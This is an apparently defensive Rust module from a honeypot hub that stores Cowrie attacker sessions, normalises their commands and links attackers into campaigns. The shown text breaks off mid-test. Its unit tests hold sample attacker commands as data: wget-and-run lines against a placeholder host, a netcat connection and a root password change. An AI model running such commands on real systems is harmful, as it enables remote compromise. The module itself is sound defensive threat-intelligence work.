//! Honeypot sessions as the hub keeps them, and the pure correlation over them.
//!
//! A [`SessionRecord`] is one attacker session on one sensor (a Cowrie session today): who
//! connected, from where, what they tried, typed and fetched, and how deep they got. The reader
//! of a source (`apiary_ingest::cowrie`) builds it; the store keeps it keyed by
//! (feed, sensor, session id); the API and CLI answer "what did this attacker do, on how many
//! sensors and networks" and "which attackers are linked" from it.
//!
//! Correlation is pure and lives here:
//! - [`normalise_command`]: a command with its variable parts (URLs, addresses, long numbers,
//!   hex runs, quoted strings) replaced by placeholders, so the same script run against two
//!   honeypots, with different download hosts or random passwords, reads the same;
//! - [`links`]: the keys that tie a session to others — a payload's SHA-256, a tty log's
//!   SHA-256, a normalised command sequence, or a HASSH with the exact credential list;
//! - [`campaigns`]: every link key shared by two or more attackers is a campaign, with a stable
//!   id derived from the key (the same data gives the same ids, on every hub).

use crate::{parse, IType, ParseOptions};
use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet, HashMap};

/// How deep a session got, in order (`connect` < ... < `payload`).
pub const DEPTHS: [&str; 6] = [
    "connect",
    "handshake",
    "auth_attempt",
    "login",
    "commands",
    "payload",
];

/// Limits a session record must keep (the API refuses larger ones; a reader truncates lists).
pub const MAX_FIELD: usize = 4096;
pub const MAX_LIST: usize = 1000;

/// One login attempt, in the order tried.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize, Default)]
pub struct SessionCredential {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub username: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub password: Option<String>,
    /// Key fingerprint of a public-key attempt.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub fingerprint: Option<String>,
    #[serde(default)]
    pub success: bool,
}

/// A file fetched (download) or sent (upload) in a session.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, Default)]
pub struct Transfer {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub url: Option<String>,
    /// Lowercase hex SHA-256 of the content, when it arrived.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sha256: Option<String>,
}

/// A `direct-tcpip` target: the honeypot used as a proxy to this host and port.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, Default)]
pub struct TunnelTarget {
    pub host: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub port: Option<u16>,
}

/// One session on one sensor, as stored. Field names are the native API's.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
pub struct SessionRecord {
    pub sensor: String,
    pub session: String,
    /// The attacker's address, normalised by [`parse`] (absent if the log had none).
    #[serde(default)]
    pub attacker: Option<String>,
    #[serde(default)]
    pub attacker_port: Option<u16>,
    /// The honeypot's own address (often private); a secret of the sensor's owner.
    #[serde(default)]
    pub honeypot_ip: Option<String>,
    #[serde(default)]
    pub honeypot_port: Option<u16>,
    #[serde(default)]
    pub protocol: Option<String>,
    #[serde(default)]
    pub start: Option<DateTime<Utc>>,
    #[serde(default)]
    pub end: Option<DateTime<Utc>>,
    /// Seconds.
    #[serde(default)]
    pub duration: Option<f64>,
    #[serde(default)]
    pub client_version: Option<String>,
    #[serde(default)]
    pub hassh: Option<String>,
    #[serde(default)]
    pub credentials: Vec<SessionCredential>,
    #[serde(default)]
    pub login_success: bool,
    /// Commands as typed, in order.
    #[serde(default)]
    pub commands: Vec<String>,
    #[serde(default)]
    pub downloads: Vec<Transfer>,
    #[serde(default)]
    pub uploads: Vec<Transfer>,
    #[serde(default)]
    pub tunnels: Vec<TunnelTarget>,
    #[serde(default)]
    pub ttylog_sha256: Option<String>,
    /// One of [`DEPTHS`].
    pub depth: String,
    /// Events folded into the session (a more complete version of a session has more).
    #[serde(default)]
    pub events: u64,
    /// True when the session's close was seen.
    #[serde(default)]
    pub closed: bool,
}

impl SessionRecord {
    /// Check and normalise a record received from outside (the API): sizes bounded, the
    /// attacker an address as [`parse`] writes it, hashes lowercase hex, depth known. The
    /// error names the field.
    /// The reported-time rule ([`crate::check_reported_time`]) for a session's start and end
    /// against its arrival `now`, and an end not before its start. `Err` is (code, message).
    pub fn check_times(&self, now: DateTime<Utc>) -> Result<(), (&'static str, String)> {
        for (field, t) in [("start", self.start), ("end", self.end)] {
            if let Some(t) = t {
                crate::check_reported_time(field, t, now)?;
            }
        }
        if let (Some(start), Some(end)) = (self.start, self.end) {
            if end < start {
                return Err(("invalid_session", "`end` is before `start`".into()));
            }
        }
        Ok(())
    }

    pub fn check(&mut self, opts: &ParseOptions) -> Result<(), String> {
        let short = |name: &str, v: &str, max: usize| -> Result<(), String> {
            if v.len() > max {
                return Err(format!("`{name}` is {} bytes, more than {max}", v.len()));
            }
            Ok(())
        };
        if self.sensor.trim().is_empty() || self.session.trim().is_empty() {
            return Err("`sensor` and `session` must not be empty".into());
        }
        short("sensor", &self.sensor, 256)?;
        short("session", &self.session, 256)?;
        if let Some(a) = self.attacker.as_deref() {
            let ind = parse(a, None, opts).map_err(|e| format!("`attacker`: {}", e.message))?;
            if !ind.itype.is_address() || ind.is_cidr() {
                return Err(format!("`attacker` {a:?} is not an address"));
            }
            self.attacker = Some(ind.value);
        }
        for (name, v) in [
            ("honeypot_ip", &self.honeypot_ip),
            ("protocol", &self.protocol),
            ("client_version", &self.client_version),
            ("hassh", &self.hassh),
        ] {
            if let Some(v) = v {
                short(name, v, 512)?;
            }
        }
        for (name, n) in [
            ("credentials", self.credentials.len()),
            ("commands", self.commands.len()),
            ("downloads", self.downloads.len()),
            ("uploads", self.uploads.len()),
            ("tunnels", self.tunnels.len()),
        ] {
            if n > MAX_LIST {
                return Err(format!("`{name}` lists {n} items, more than {MAX_LIST}"));
            }
        }
        for c in &self.credentials {
            for v in [&c.username, &c.password, &c.fingerprint]
                .into_iter()
                .flatten()
            {
                short("credentials", v, MAX_FIELD)?;
            }
        }
        for c in &self.commands {
            short("commands", c, MAX_FIELD)?;
        }
        for t in self.downloads.iter_mut().chain(self.uploads.iter_mut()) {
            if let Some(u) = &t.url {
                short("url", u, MAX_FIELD)?;
            }
            if let Some(h) = &mut t.sha256 {
                *h = check_sha256("sha256", h)?;
            }
        }
        for t in &self.tunnels {
            short("tunnels", &t.host, 1024)?;
        }
        if let Some(h) = &mut self.ttylog_sha256 {
            *h = check_sha256("ttylog_sha256", h)?;
        }
        if !DEPTHS.contains(&self.depth.as_str()) {
            return Err(format!(
                "`depth` {:?} is not one of {}",
                self.depth,
                DEPTHS.join(", ")
            ));
        }
        if self.duration.is_some_and(|d| !d.is_finite() || d < 0.0) {
            self.duration = None;
        }
        Ok(())
    }

    /// Every payload SHA-256 of the session (downloads, then uploads), once each.
    pub fn payloads(&self) -> Vec<&str> {
        let mut out: Vec<&str> = Vec::new();
        for h in self
            .downloads
            .iter()
            .chain(&self.uploads)
            .filter_map(|t| t.sha256.as_deref())
        {
            if !out.contains(&h) {
                out.push(h);
            }
        }
        out
    }
}

fn check_sha256(name: &str, h: &str) -> Result<String, String> {
    let h = h.trim().to_ascii_lowercase();
    if h.len() != 64 || !h.bytes().all(|b| b.is_ascii_hexdigit()) {
        return Err(format!("`{name}` {h:?} is not a SHA-256 (64 hex digits)"));
    }
    Ok(h)
}

// ---------------------------------------------------------------- normalising commands

/// A command with its variable parts replaced: URLs → `<url>`, IPv4 addresses → `<ip>`, quoted
/// strings → `<str>`, hex runs of 8+ → `<hex>`, numbers of 4+ digits → `<n>`; runs of
/// whitespace → one space; trimmed. Normalising twice changes nothing.
pub fn normalise_command(cmd: &str) -> String {
    let mut out = String::with_capacity(cmd.len());
    let chars: Vec<char> = cmd.trim().chars().collect();
    let mut i = 0;
    let mut space = false;
    while i < chars.len() {
        let c = chars[i];
        if c.is_whitespace() {
            space = true;
            i += 1;
            continue;
        }
        if space && !out.is_empty() {
            out.push(' ');
        }
        space = false;
        // A quoted string.
        if c == '"' || c == '\'' {
            if let Some(end) = chars[i + 1..].iter().position(|&d| d == c) {
                out.push_str("<str>");
                i += end + 2;
                continue;
            }
        }
        // A word: up to whitespace or a shell separator.
        let start = i;
        while i < chars.len()
            && !chars[i].is_whitespace()
            && !matches!(
                chars[i],
                ';' | '|' | '&' | '>' | '<' | '(' | ')' | '`' | '"' | '\''
            )
        {
            i += 1;
        }
        if i == start {
            out.push(c);
            i += 1;
            continue;
        }
        let word: String = chars[start..i].iter().collect();
        out.push_str(&normalise_word(&word));
    }
    out
}

fn normalise_word(w: &str) -> String {
    if w.starts_with('<') && w.ends_with('>') {
        return w.to_owned();
    }
    let lower = w.to_ascii_lowercase();
    if ["http://", "https://", "ftp://", "tftp://"]
        .iter()
        .any(|p| lower.starts_with(p))
    {
        return "<url>".to_owned();
    }
    // Split on the characters that glue values into words (`host:port`, `a=b`, `/path/x`).
    let mut out = String::with_capacity(w.len());
    let mut token = String::new();
    let flush = |token: &mut String, out: &mut String| {
        if !token.is_empty() {
            out.push_str(&normalise_token(token));
            token.clear();
        }
    };
    for c in w.chars() {
        if matches!(c, ':' | '=' | '/' | ',' | '@') {
            flush(&mut token, &mut out);
            out.push(c);
        } else {
            token.push(c);
        }
    }
    flush(&mut token, &mut out);
    out
}

fn normalise_token(t: &str) -> String {
    let is_v4 = {
        let parts: Vec<&str> = t.split('.').collect();
        parts.len() == 4
            && parts
                .iter()
                .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
    };
    if is_v4 {
        return "<ip>".to_owned();
    }
    if t.len() >= 4 && t.bytes().all(|b| b.is_ascii_digit()) {
        return "<n>".to_owned();
    }
    if t.len() >= 8
        && t.bytes().all(|b| b.is_ascii_hexdigit())
        && t.bytes().any(|b| b.is_ascii_digit())
    {
        return "<hex>".to_owned();
    }
    t.to_owned()
}

/// The normalised command sequence, one command a line; `None` for fewer than two commands (a
/// lone `exit` or `uname -a` is too common to link anyone).
pub fn command_sequence(commands: &[String]) -> Option<String> {
    let norm: Vec<String> = commands
        .iter()
        .map(|c| normalise_command(c))
        .filter(|c| !c.is_empty())
        .collect();
    (norm.len() >= 2).then(|| norm.join("\n"))
}

/// A stable digest of some text: 32 hex digits (UUIDv5 over the text, SHA-1 based; no
/// secrecy is asked of it, only that the same text gives the same id everywhere).
pub fn digest(text: &str) -> String {
    const NS: uuid::Uuid = uuid::Uuid::from_u128(0x6170_6961_7279_2d73_6573_7369_6f6e_7331);
    uuid::Uuid::new_v5(&NS, text.as_bytes())
        .simple()
        .to_string()
}

/// The credential list as one line per attempt (`user\tpassword` or `user\tkey:FP`).
pub fn credential_list(creds: &[SessionCredential]) -> Option<String> {
    if creds.is_empty() {
        return None;
    }
    let lines: Vec<String> = creds
        .iter()
        .map(|c| {
            let secret = match (&c.password, &c.fingerprint) {
                (Some(p), _) => p.clone(),
                (None, Some(fp)) => format!("key:{fp}"),
                (None, None) => String::new(),
            };
            format!("{}\t{secret}", c.username.as_deref().unwrap_or(""))
        })
        .collect();
    Some(lines.join("\n"))
}

// ---------------------------------------------------------------- links and campaigns

/// What ties sessions of different attackers together.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum LinkKind {
    /// The same payload (download or upload SHA-256).
    Payload,
    /// The same tty log (SHA-256): the same terminal interaction replayed.
    Ttylog,
    /// The same normalised command sequence.
    Commands,
    /// The same SSH client fingerprint (HASSH) trying the same credential list, in order.
    HasshCredentials,
}

impl LinkKind {
    pub fn as_str(self) -> &'static str {
        match self {
            LinkKind::Payload => "payload",
            LinkKind::Ttylog => "ttylog",
            LinkKind::Commands => "commands",
            LinkKind::HasshCredentials => "hassh_credentials",
        }
    }

    pub fn from_name(s: &str) -> Option<LinkKind> {
        Some(match s {
            "payload" => LinkKind::Payload,
            "ttylog" => LinkKind::Ttylog,
            "commands" => LinkKind::Commands,
            "hassh_credentials" => LinkKind::HasshCredentials,
            _ => return None,
        })
    }
}

/// One link key of a session. `key` is the payload or tty-log SHA-256, the digest of the
/// normalised command sequence, or `HASSH:digest(credential list)`.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Link {
    pub kind: LinkKind,
    pub key: String,
}

impl Link {
    /// The campaign id of this key: stable across hubs and runs.
    pub fn campaign_id(&self) -> String {
        campaign_id(self.kind, &self.key)
    }
}

/// `c` + 16 hex digits of the digest of kind and key.
pub fn campaign_id(kind: LinkKind, key: &str) -> String {
    let d = digest(&format!("{}\u{1f}{key}", kind.as_str()));
    format!("c{}", &d[..16])
}

/// The link key of a session's command sequence (see [`command_sequence`]).
pub fn commands_key(commands: &[String]) -> Option<String> {
    command_sequence(commands).map(|s| digest(&s))
}

/// The link key of a session's HASSH and credential list (both needed).
pub fn hassh_credentials_key(hassh: Option<&str>, creds: &[SessionCredential]) -> Option<String> {
    let h = hassh.filter(|h| !h.is_empty())?;
    Some(format!("{h}:{}", digest(&credential_list(creds)?)))
}

/// Every link key of a session.
pub fn links(s: &SessionRecord) -> Vec<Link> {
    let mut out: Vec<Link> = s
        .payloads()
        .into_iter()
        .map(|h| Link {
            kind: LinkKind::Payload,
            key: h.to_owned(),
        })
        .collect();
    if let Some(h) = &s.ttylog_sha256 {
        out.push(Link {
            kind: LinkKind::Ttylog,
            key: h.clone(),
        });
    }
    if let Some(k) = commands_key(&s.commands) {
        out.push(Link {
            kind: LinkKind::Commands,
            key: k,
        });
    }
    if let Some(k) = hassh_credentials_key(s.hassh.as_deref(), &s.credentials) {
        out.push(Link {
            kind: LinkKind::HasshCredentials,
            key: k,
        });
    }
    out
}

/// A sensor, named inside its feed.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
pub struct SensorRef {
    pub feed_id: i64,
    pub sensor: String,
}

/// What correlation needs of one stored session.
#[derive(Debug, Clone, PartialEq)]
pub struct SessionLinks {
    pub feed_id: i64,
    pub sensor: String,
    /// The session's id on its sensor: with `sensor`, what identifies the session.
    pub session: String,
    pub attacker: String,
    pub start: Option<DateTime<Utc>>,
    pub end: Option<DateTime<Utc>>,
    pub links: Vec<Link>,
}

/// Attackers linked by one shared key.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Campaign {
    pub id: String,
    pub kind: LinkKind,
    pub key: String,
    /// The attackers, sorted.
    pub attackers: Vec<String>,
    pub sessions: u64,
    pub sensors: BTreeSet<SensorRef>,
    /// Distinct declared networks of those sensors.
    pub networks: BTreeSet<String>,
    /// Sensors without a declared network.
    pub undeclared_sensors: u64,
    pub first_seen: Option<DateTime<Utc>>,
    pub last_seen: Option<DateTime<Utc>>,
}

/// Each session once. A session is identified by (sensor, session id), whichever feeds it was
/// stored in: the same log imported into two feeds is one set of sessions seen by one sensor,
/// not two. Of the copies, the one in the lowest feed id stands for the session (so a sensor
/// is counted in one place); the order of the first copies is kept.
pub fn distinct_sessions<'a, T>(
    items: impl IntoIterator<Item = T>,
    key: impl Fn(&T) -> (i64, &'a str, &'a str),
) -> Vec<T> {
    let mut out: Vec<T> = Vec::new();
    let mut at: HashMap<(&'a str, &'a str), usize> = HashMap::new();
    for item in items {
        let (feed_id, sensor, session) = key(&item);
        match at.get(&(sensor, session)) {
            Some(&i) => {
                if feed_id < key(&out[i]).0 {
                    out[i] = item;
                }
            }
            None => {
                at.insert((sensor, session), out.len());
                out.push(item);
            }
        }
    }
    out
}

/// Every link key shared by at least `min_attackers` (≥ 2) distinct attackers, most attackers
/// first (then by id, so the order is stable). `network_of` names the declared network of a
/// sensor (`AS64500` or a prefix), `None` when it declared none. Each session counts once
/// ([`distinct_sessions`]).
pub fn campaigns(
    sessions: &[SessionLinks],
    min_attackers: usize,
    network_of: &dyn Fn(&SensorRef) -> Option<String>,
) -> Vec<Campaign> {
    let sessions = distinct_sessions(sessions, |s| (s.feed_id, s.sensor.as_str(), s.session.as_str()));
    struct Acc<'a> {
        attackers: BTreeSet<&'a str>,
        sessions: u64,
        sensors: BTreeSet<SensorRef>,
        first: Option<DateTime<Utc>>,
        last: Option<DateTime<Utc>>,
    }
    let mut by_key: HashMap<&Link, Acc> = HashMap::new();
    for s in sessions {
        for l in &s.links {
            let acc = by_key.entry(l).or_insert_with(|| Acc {
                attackers: BTreeSet::new(),
                sessions: 0,
                sensors: BTreeSet::new(),
                first: None,
                last: None,
            });
            acc.attackers.insert(&s.attacker);
            acc.sessions += 1;
            acc.sensors.insert(SensorRef {
                feed_id: s.feed_id,
                sensor: s.sensor.clone(),
            });
            acc.first = min_time(acc.first, s.start.or(s.end));
            acc.last = max_time(acc.last, s.end.or(s.start));
        }
    }
    let min = min_attackers.max(2);
    let mut out: Vec<Campaign> = by_key
        .into_iter()
        .filter(|(_, a)| a.attackers.len() >= min)
        .map(|(l, a)| {
            let (networks, undeclared) = networks_of(&a.sensors, network_of);
            Campaign {
                id: l.campaign_id(),
                kind: l.kind,
                key: l.key.clone(),
                attackers: a.attackers.into_iter().map(str::to_owned).collect(),
                sessions: a.sessions,
                sensors: a.sensors,
                networks,
                undeclared_sensors: undeclared,
                first_seen: a.first,
                last_seen: a.last,
            }
        })
        .collect();
    out.sort_by(|a, b| {
        b.attackers
            .len()
            .cmp(&a.attackers.len())
            .then_with(|| a.id.cmp(&b.id))
    });
    out
}

/// The declared networks of some sensors, and how many declared none.
pub fn networks_of(
    sensors: &BTreeSet<SensorRef>,
    network_of: &dyn Fn(&SensorRef) -> Option<String>,
) -> (BTreeSet<String>, u64) {
    let mut nets = BTreeSet::new();
    let mut undeclared = 0;
    for s in sensors {
        match network_of(s) {
            Some(n) => {
                nets.insert(n);
            }
            None => undeclared += 1,
        }
    }
    (nets, undeclared)
}

fn min_time(a: Option<DateTime<Utc>>, b: Option<DateTime<Utc>>) -> Option<DateTime<Utc>> {
    match (a, b) {
        (Some(a), Some(b)) => Some(a.min(b)),
        (a, b) => a.or(b),
    }
}

fn max_time(a: Option<DateTime<Utc>>, b: Option<DateTime<Utc>>) -> Option<DateTime<Utc>> {
    a.max(b)
}

// ---------------------------------------------------------------- an attacker's profile

/// A credential pair and how often it was tried.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct TriedCredential {
    #[serde(flatten)]
    pub credential: SessionCredential,
    pub times: u64,
}

/// A normalised command sequence, with one example as typed and how many sessions ran it.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct CommandSequence {
    pub normalised: Vec<String>,
    pub example: Vec<String>,
    pub sessions: u64,
}

/// A payload seen with the attacker.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct PayloadSeen {
    pub sha256: String,
    pub urls: Vec<String>,
    pub sessions: u64,
}

/// What an attacker did across sensors (the sessions are given in time order by the caller).
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct AttackerProfile {
    pub attacker: String,
    pub first_seen: Option<DateTime<Utc>>,
    pub last_seen: Option<DateTime<Utc>>,
    pub sessions: u64,
    pub sensors: BTreeSet<SensorRef>,
    pub networks: BTreeSet<String>,
    pub undeclared_sensors: u64,
    pub deepest: Option<String>,
    pub protocols: BTreeMap<String, u64>,
    pub credentials: Vec<TriedCredential>,
    pub logins: u64,
    pub command_sequences: Vec<CommandSequence>,
    pub payloads: Vec<PayloadSeen>,
    pub hassh: BTreeMap<String, u64>,
    pub client_versions: BTreeMap<String, u64>,
    pub tunnels: Vec<TunnelTarget>,
    pub links: BTreeSet<Link>,
}

/// Fold an attacker's sessions (`(feed_id, record)`) into its profile, each session once
/// ([`distinct_sessions`]); at most `max_listed` credentials, sequences and payloads are listed
/// (in first-seen order).
pub fn attacker_profile(
    attacker: &str,
    sessions: &[(i64, &SessionRecord)],
    network_of: &dyn Fn(&SensorRef) -> Option<String>,
    max_listed: usize,
) -> AttackerProfile {
    let sessions = distinct_sessions(sessions.iter().copied(), |(f, s)| (*f, s.sensor.as_str(), s.session.as_str()));
    let mut p = AttackerProfile {
        attacker: attacker.to_owned(),
        first_seen: None,
        last_seen: None,
        sessions: 0,
        sensors: BTreeSet::new(),
        networks: BTreeSet::new(),
        undeclared_sensors: 0,
        deepest: None,
        protocols: BTreeMap::new(),
        credentials: Vec::new(),
        logins: 0,
        command_sequences: Vec::new(),
        payloads: Vec::new(),
        hassh: BTreeMap::new(),
        client_versions: BTreeMap::new(),
        tunnels: Vec::new(),
        links: BTreeSet::new(),
    };
    let rank = |d: &str| DEPTHS.iter().position(|x| *x == d).unwrap_or(0);
    for (feed_id, s) in &sessions {
        p.sessions += 1;
        p.first_seen = min_time(p.first_seen, s.start.or(s.end));
        p.last_seen = max_time(p.last_seen, s.end.or(s.start));
        p.sensors.insert(SensorRef {
            feed_id: *feed_id,
            sensor: s.sensor.clone(),
        });
        if p.deepest
            .as_deref()
            .is_none_or(|d| rank(&s.depth) > rank(d))
        {
            p.deepest = Some(s.depth.clone());
        }
        if let Some(pr) = &s.protocol {
            *p.protocols.entry(pr.clone()).or_insert(0) += 1;
        }
        for c in &s.credentials {
            let key = SessionCredential {
                success: false,
                ..c.clone()
            };
            let n = p.credentials.len();
            match p.credentials.iter_mut().find(|t| {
                SessionCredential {
                    success: false,
                    ..t.credential.clone()
                } == key
            }) {
                Some(t) => {
                    t.times += 1;
                    t.credential.success |= c.success;
                }
                None if n < max_listed => p.credentials.push(TriedCredential {
                    credential: c.clone(),
                    times: 1,
                }),
                None => {}
            }
        }
        p.logins += u64::from(s.login_success);
        if !s.commands.is_empty() {
            let normalised: Vec<String> = s
                .commands
                .iter()
                .map(|c| normalise_command(c))
                .filter(|c| !c.is_empty())
                .collect();
            let n = p.command_sequences.len();
            match p
                .command_sequences
                .iter_mut()
                .find(|c| c.normalised == normalised)
            {
                Some(c) => c.sessions += 1,
                None if n < max_listed => p.command_sequences.push(CommandSequence {
                    normalised,
                    example: s.commands.clone(),
                    sessions: 1,
                }),
                None => {}
            }
        }
        for t in s.downloads.iter().chain(&s.uploads) {
            let Some(h) = &t.sha256 else { continue };
            let n = p.payloads.len();
            match p.payloads.iter_mut().find(|x| &x.sha256 == h) {
                Some(x) => {
                    x.sessions += 1;
                    if let Some(u) = &t.url {
                        if !x.urls.contains(u) {
                            x.urls.push(u.clone());
                        }
                    }
                }
                None if n < max_listed => p.payloads.push(PayloadSeen {
                    sha256: h.clone(),
                    urls: t.url.iter().cloned().collect(),
                    sessions: 1,
                }),
                None => {}
            }
        }
        if let Some(h) = &s.hassh {
            *p.hassh.entry(h.clone()).or_insert(0) += 1;
        }
        if let Some(v) = &s.client_version {
            *p.client_versions.entry(v.clone()).or_insert(0) += 1;
        }
        for t in &s.tunnels {
            if !p.tunnels.contains(t) && p.tunnels.len() < max_listed {
                p.tunnels.push(t.clone());
            }
        }
        p.links.extend(links(s));
    }
    let (nets, undeclared) = networks_of(&p.sensors, network_of);
    p.networks = nets;
    p.undeclared_sensors = undeclared;
    p
}

/// Whether `value` is an address as the hub stores attackers (normalised), for routes that
/// take one in their path.
pub fn attacker_address(value: &str, opts: &ParseOptions) -> Result<String, String> {
    let ind = parse(value, None, opts).map_err(|e| e.message)?;
    if ind.itype.is_address() && !ind.is_cidr() {
        Ok(ind.value)
    } else {
        Err(format!("`{value}` is a {}, not an address", ind.itype))
    }
}

/// A SHA-256 as the hub stores payloads (lowercase hex).
pub fn payload_hash(value: &str) -> Result<String, String> {
    let ind = parse(value, Some(IType::Sha256), &ParseOptions::default()).map_err(|e| e.message)?;
    Ok(ind.value)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_normalise_their_variable_parts() {
        for (raw, want) in [
            ("  uname   -a ", "uname -a"),
            (
                "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh",
                "cd /tmp; wget <url>; sh x.sh",
            ),
            (
                "cd /tmp; wget http://evil.example/y.sh; sh x.sh",
                "cd /tmp; wget <url>; sh x.sh",
            ),
            ("echo \"root:Xy12abc\"|chpasswd", "echo <str>|chpasswd"),
            ("ping -c 1 203.0.113.9", "ping -c 1 <ip>"),
            ("nc 203.0.113.9:4444", "nc <ip>:<n>"),
            ("echo 1a2b3c4d5e6f7a8b > /tmp/k", "echo <hex> > /tmp/k"),
            ("sleep 15", "sleep 15"),
            ("", ""),
        ] {
            let got = normalise_command(raw);
            assert_eq!(got, want, "{raw:?}");
            assert_eq!(
                normalise_command(&got),
                got,
                "normalising twice changes nothing: {raw:?}"
            );
        }
    }

    #[test]
    fn a_lone_command_is_no_sequence() {
        assert_eq!(command_sequence(&["exit".into()]), None);
        let a = commands_key(&["cd /tmp".into(), "wget http://a.example/x".into()]);
        let b = commands_key(&["cd  /tmp".into(), "wget http://b.example/y".into()]);
        assert!(a.is_some());
        assert_eq!(a, b);
    }

    fn rec(sensor: &str, attacker: &str) -> SessionRecord {
        SessionRecord {
            sensor: sensor.into(),
            session: format!("{sensor}-{attacker}"),
            attacker: Some(attacker.into()),
            depth: "connect".into(),
            ..Default::default()
        }
    }

    #[test]
    fn campaigns_are_keys_shared_by_two_attackers_with_stable_ids() {
        let sha = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".to_string();
        let mut a = rec("s1", "192.0.2.1");
        a.downloads.push(Transfer {
            url: Some("http://x.example/a".into()),
            sha256: Some(sha.clone()),
        });
        let mut b = rec("s2", "192.0.2.2");
        b.uploads.push(Transfer {
            url: None,
            sha256: Some(sha.clone()),
        });
        let mut c = rec("s2", "192.0.2.3");
        c.hassh = Some("abc".into());
        c.credentials.push(SessionCredential {
            username: Some("root".into()),
            password: Some("1".into()),
            ..Default::default()
        });
        let mut d = c.clone();
        d.attacker = Some("192.0.2.4".into());
        d.sensor = "s1".into();
        let mut e = c.clone();
        e.attacker = Some("192.0.2.5".into());
        e.credentials[0].password = Some("2".into());
        let to_links = |f: i64, s: &SessionRecord| SessionLinks {
            feed_id: f,
            sensor: s.sensor.clone(),
            session: s.session.clone(),
            attacker: s.attacker.clone().unwrap(),
            start: None,
            end: None,
            links: links(s),
        };
        let all = vec![
            to_links(1, &a),
            to_links(2, &b),
            to_links(2, &c),
            to_links(1, &d),
            to_links(2, &e),
        ];
        let net = |s: &SensorRef| (s.feed_id == 1).then(|| "AS64500".to_string());
        let got = campaigns(&all, 2, &net);
        assert_eq!(got.len(), 2, "{got:#?}");
        let pay = got.iter().find(|c| c.kind == LinkKind::Payload).unwrap();
        assert_eq!(pay.attackers, ["192.0.2.1", "192.0.2.2"]);
        assert_eq!(pay.id, campaign_id(LinkKind::Payload, &sha));
        assert_eq!(
            (
                pay.sensors.len(),
                pay.networks.len(),
                pay.undeclared_sensors
            ),
            (2, 1, 1)
        );
        let hc = got
            .iter()
            .find(|c| c.kind == LinkKind::HasshCredentials)
            .unwrap();
        assert_eq!(
            hc.attackers,
            ["192.0.2.3", "192.0.2.4"],
            "a different credential list is not linked"
        );
        assert_eq!(
            campaigns(&all, 2, &net),
            got,
            "the same data gives the same campaigns"
        );
    }

    #[test]
    fn records_from_outside_are_checked() {
        let mut r = rec("s", "2001:DB8::1");
        r.ttylog_sha256 =
            Some("9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08".into());
        r.check(&ParseOptions::default()).unwrap();
        assert_eq!(r.attacker.as_deref(), Some("2001:db8::1"));
        assert!(r.ttylog_sha256.as_deref().unwrap().starts_with("9f86"));
        let mut bad = rec("s", "example.com");
        assert!(bad
            .check(&ParseOptions::default())
            .unwrap_err()
            .contains("attacker"));
        let mut bad = rec("s", "192.0.2.1");
        bad.depth = "deep".into();
        assert!(bad
            .check(&ParseOptions::default())
            .unwrap_err()
            .contains("depth"));
        let mut bad = rec("s", "192.0.2.1");
        bad.downloads.push(Transfer {
            url: None,
            sha256: Some("xyz".into()),
        });
        assert!(bad.check(&ParseOptions::default()).is_err());
    }

    #[test]
    fn a_profile_counts_sensors_networks_and_what_was_tried() {
        let mut a = rec("s1", "192.0.2.1");
        a.credentials = vec![
            SessionCredential {
                username: Some("root".into()),
                password: Some("1".into()),
                ..Default::default()
            },
            SessionCredential {
                username: Some("root".into()),
                password: Some("2".into()),
                success: true,
                ..Default::default()
            },
        ];
        a.login_success = true;
        a.commands = vec!["uname -a".into(), "wget http://a.example/x".into()];
        a.depth = "commands".into();
        let mut b = rec("s2", "192.0.2.1");
        b.credentials = vec![SessionCredential {
            username: Some("root".into()),
            password: Some("1".into()),
            ..Default::default()
        }];
        b.commands = vec!["uname  -a".into(), "wget http://b.example/y".into()];
        // Another session of s2 that only feed 2 holds.
        let mut b2 = b.clone();
        b2.session = "other".into();
        let net = |s: &SensorRef| Some(format!("AS{}", s.feed_id));
        let p = attacker_profile("192.0.2.1", &[(1, &a), (1, &b), (2, &b2)], &net, 100);
        assert_eq!((p.sessions, p.sensors.len(), p.networks.len()), (3, 3, 2));
        assert_eq!(p.credentials.len(), 2);
        assert_eq!(p.credentials[0].times, 3);
        assert!(p.credentials[1].credential.success);
        assert_eq!(p.command_sequences.len(), 1);
        assert_eq!(p.command_sequences[0].sessions, 3);
        assert_eq!(p.deepest.as_deref(), Some("commands"));
    }

    #[test]
    fn a_session_in_two_feeds_counts_once() {
        // One sensor's log imported into feeds 1 and 2: the same (sensor, session) twice each.
        let mut a = rec("sensor-d", "159.223.155.110");
        a.commands = vec!["uname -a".into(), "cat /proc/cpuinfo".into()];
        a.ttylog_sha256 = Some("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into());
        let mut b = a.clone();
        b.session = "second".into();
        let mut c = rec("sensor-d", "192.0.2.9");
        c.commands = a.commands.clone();
        let stored = [(2, &a), (1, &a), (2, &b), (1, &b), (2, &c), (1, &c)];
        let net = |_: &SensorRef| None;
